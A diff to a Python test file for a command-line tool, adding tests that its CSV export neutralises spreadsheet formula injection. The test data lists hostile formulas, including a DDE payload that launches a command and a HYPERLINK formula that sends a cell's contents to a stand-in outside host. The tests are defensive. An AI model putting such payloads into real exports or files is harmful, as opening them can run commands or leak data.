@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import pty
+import re
+import shlex
 import subprocess
 import sys
 
@@ -73,6 +77,52 @@ def test_data_stays_exact(evil: Cli) -> None:
     assert evil.done("agency list -o json").json[0]["agency"] == "tr\u202eust"
     assert "tr\u202eust" in evil.done("agency list -o csv").out
     assert "tr\u202eust" in evil.done("agency list -o json").out
+
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://stranger.example/?"&A1,"see")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "alice;=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
+def test_a_text_in_csv_is_never_a_formula(cli: Cli, text: str) -> None:
+    """Also not in the columns' names, which a query chooses."""
+    cli.authorize()
+    quoted, named = text.replace("'", "''"), text.replace('"', '""')
+    sql = shlex.quote(f"""SELECT '{quoted}' AS "{named}", 7, -7, 1.5""")
+    rows = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv").out, newline="")))
+    for cell in (rows[0][0], rows[1][0]):
+        assert cell != text
+        assert cell.replace("'", "") == text.replace("'", "")
+        assert not re.search(r"(^|[;\t\r\n])[=+@＝-]", cell)
+    assert rows[1][1:] == ["7", "-7", "1.5"]
+    raw = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv --raw").out, newline="")))
+    assert (raw[0][0], raw[1][0]) == (text, text)
+    [row] = cli.done(f"query {sql} -o json").json
+    assert row[text] == text
+
+
+@pytest.mark.parametrize("text", ["alice", "a=b", "a-b", "-7", "+7", "-1.5", "'quoted'", ""])
+def test_a_text_in_csv_that_no_spreadsheet_calculates_is_exact(cli: Cli, text: str) -> None:
+    cli.authorize()
+    sql = shlex.quote(f"SELECT '{text.replace(chr(39), 2 * chr(39))}' AS text, 1 AS one")
+    rows = list(csv.reader(io.StringIO(cli.done(f"query {sql} -o csv").out, newline="")))
+    assert rows[1] == [text, "1"]
+
+
+def test_a_name_from_a_trace_is_no_formula_in_a_list(cli: Cli) -> None:
+    cli.done("agency create '=1+1' --trustee service:asm")
+    assert "'=1+1" in cli.done("agency list -o csv").out
+    assert "'=1+1" not in cli.done("agency list -o csv --raw").out
 
 
 def test_a_terminal_shows_escaped_json_of_the_same_value(evil: Cli) -> None:
